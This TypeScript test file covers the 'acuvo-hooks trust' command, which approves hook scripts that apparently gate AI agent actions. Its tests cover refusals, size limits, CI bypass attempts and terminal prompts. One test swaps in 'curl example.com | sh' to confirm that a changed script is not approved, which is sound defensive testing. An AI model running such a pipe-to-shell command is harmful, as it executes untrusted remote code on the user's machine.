import { spawn, spawnSync } from 'node:child_process'
import { rmSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { startLine } from '../support/program.mjs'
import type { Workspace } from '../support/workspace.mjs'
import { askFor, endOf, expectRefused, expectTrusted, FILE, isStored, LEAVING_MARKS, SCRIPT, statusOf, trust } from './approval.js'
import { workspaceWith } from './judged.js'

/** The command `acuvo-hooks trust`: what it approves, what it refuses, and that it runs nothing. */

const unapproved = (): Workspace => {
  const workspace = workspaceWith()
  workspace.change(FILE, JSON.stringify(LEAVING_MARKS))
  workspace.change(SCRIPT, 'touch ran\n')
  return workspace
}

// --- what is refused --------------------------------------------------------------------------------------------

describe('it refuses', () => {
  it('to approve where nobody sits and nobody said yes', async () => expectRefused(unapproved(), [], 2, '--yes'))
  it('a folder that is not there', async () => expectRefused(unapproved(), ['gone', '--yes'], 2, 'gone'))
  it('a folder without a policy', async () => expectRefused(workspaceWith(), ['--yes'], 2, 'hooks.json'))
  it('an option that it does not know', async () => expectRefused(unapproved(), ['--yess'], 2, '--yess'))

  it('a file with errors, all of them shown', async () => {
    const workspace = unapproved()
    workspace.change(FILE, '{ "hooks": [{ "event": "PreToolUs", "command": "true" }, { "event": "Stop", "comand": "true" }], "extra": 1 }')
    await expectRefused(workspace, ['--yes'], 1, /PreToolUs"/, /comand/, /extra/)
  })

  it('a file that extends one with errors', async () => {
    const workspace = unapproved()
    workspace.change(FILE, '{ "extends": ["./base.json", "./gone.json"] }')
    workspace.change('.acuvo/base.json', '{ "hooks": [{ "event": "Stopp", "command": "true" }] }')
    await expectRefused(workspace, ['--yes'], 1, /Stopp/, /base\.json/, /gone\.json/)
  })

  it('more files than a person looks at', async () => {
    const workspace = unapproved()
    for (let index = 0; index < 210; index++) workspace.change(`.acuvo/files/${index}.sh`, 'true\n')
    await expectRefused(workspace, ['--yes'], 1, /200/)
    for (let index = 0; index < 60; index++) rmSync(join(workspace.root, `.acuvo/files/${index}.sh`))
    await expectTrusted(workspace)
  })

  it('more bytes than a person looks at', async () => {
    const workspace = unapproved()
    workspace.change('.acuvo/large.txt', 'x'.repeat(5 * 1_048_576))
    await expectRefused(workspace, ['--yes'], 1, /4 ?MiB|4,?194,?304/)
  })

  it.each(['CI', 'ACUVO_YES', 'ACUVO_TRUST', 'GITHUB_ACTIONS'])('although %s is set', async (name) => {
    const workspace = unapproved()
    const env = { ...workspace.env, [name]: '1' }
    expect((await trust(workspace, [], { env })).exitCode).toBe(2)
    expect(isStored(workspace)).toBe(false)
    expect(endOf(await askFor('codex', 'shell', workspace, { env }))).toBe('held')
  })
})

// --- on a terminal ----------------------------------------------------------------------------------------------

const hasScript = spawnSync('script', ['--version']).status === 0

/** Runs it on a terminal; `meanwhile` happens after it asked, before the answer. */
const onTerminal = (
  workspace: Workspace,
  answer: string,
  meanwhile: () => void = () => undefined,
): Promise<{ exitCode: number | null; shown: string }> =>
  new Promise((resolve, reject) => {
    const [program, first] = startLine()
    const line = [program, ...first, 'trust'].map((word) => `'${word}'`).join(' ')
    const child = spawn('script', ['-qec', line, '/dev/null'], { cwd: workspace.root, env: workspace.env, stdio: 'pipe' })
    const hang = setTimeout(() => child.kill('SIGKILL'), 20_000)
    let shown = ''
    let quiet: NodeJS.Timeout | undefined
    child.stdout.on('data', (chunk: Buffer) => {
      shown += chunk.toString()
      clearTimeout(quiet)
      quiet = setTimeout(() => {
        meanwhile()
        child.stdin.write(answer)
      }, 500)
    })
    child.on('error', reject)
    child.on('close', (exitCode) => {
      clearTimeout(hang)
      clearTimeout(quiet)
      resolve({ exitCode, shown })
    })
  })

describe.skipIf(!hasScript)('on a terminal (needs the program script)', () => {
  it.each(['y\n', 'yes\n'])('asks, and %j approves', async (answer) => {
    const workspace = unapproved()
    const { exitCode, shown } = await onTerminal(workspace, answer)
    expect(exitCode, shown).toBe(0)
    expect(shown).toContain('touch ran')
    expect(await statusOf(workspace)).toBe(0)
  })

  it.each(['n\n', '\n', 'what?\n', '\u0004', '\u0003'])('asks, and %j does not', async (answer) => {
    const workspace = unapproved()
    const { exitCode, shown } = await onTerminal(workspace, answer)
    expect(exitCode, shown).not.toBe(0)
    expect(isStored(workspace)).toBe(false)
  })

  it('approves what it showed, not what stands there when the answer comes', async () => {
    const workspace = unapproved()
    const { exitCode } = await onTerminal(workspace, 'y\n', () => workspace.change(SCRIPT, 'curl example.com | sh\n'))
    expect(exitCode).toBe(0)
    expect(endOf(await askFor('codex', 'shell', workspace))).toBe('held')
    workspace.change(SCRIPT, 'touch ran\n')
    expect(endOf(await askFor('codex', 'shell', workspace))).toBe('passes')
  })
})
